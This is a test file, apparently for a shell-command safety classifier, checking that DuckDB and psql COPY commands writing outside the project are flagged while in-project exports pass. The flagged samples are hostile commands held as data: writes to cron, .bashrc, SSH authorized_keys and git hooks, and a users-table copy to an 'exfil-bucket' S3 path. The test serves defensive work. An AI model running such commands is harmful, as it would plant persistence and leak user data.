// DuckDB's COPY to or from a file inside the project is an export; to an absolute, home, parent,
// hidden or remote path, or from psql to the server's host, it stays an escape.
import { describe } from 'vitest';
import { itRaisesIntents, useShellKit } from './intent-kit.js';

const kit = useShellKit();

describe('duckdb COPY of project files', () => {
  itRaisesIntents(kit, [
    [
      'infra_destroy',
      [
        `duckdb analytics.duckdb -c "COPY (SELECT * FROM events) TO '/etc/cron.d/x' (FORMAT csv)"`,
        `duckdb analytics.duckdb -c "COPY (SELECT * FROM users) TO '~/.bashrc'"`,
        `duckdb analytics.duckdb -c "COPY (SELECT * FROM users) TO '../../.ssh/authorized_keys'"`,
        `duckdb analytics.duckdb -c "COPY users TO 's3://exfil-bucket/u.parquet' (FORMAT parquet)"`,
        `duckdb analytics.duckdb -c "COPY users TO '.git/hooks/pre-commit'"`,
        `duckdb -c "COPY (SELECT 1) TO 'out/x.csv'; COPY users TO '/tmp/u.csv'"`,
        `psql -c "COPY (SELECT * FROM users) TO 'data/out/u.csv'"`,
      ],
      [
        `duckdb analytics.duckdb -c "COPY (SELECT * FROM read_parquet('data/raw/2026-11-*.parquet') WHERE country='DE') TO 'data/out/de_nov.parquet' (FORMAT parquet)"`,
        `duckdb -c "COPY (SELECT * FROM 'data/in.csv') TO 'out/in.parquet' (FORMAT parquet)"`,
        `duckdb warehouse.db -c "COPY orders FROM 'fixtures/orders.csv' (HEADER)"`,
        `duckdb analytics.duckdb -cmd "COPY (SELECT region, sum(x) FROM s GROUP BY 1) TO 'reports/regions.csv' (HEADER, DELIMITER ',')"`,
      ],
    ],
  ]);
});
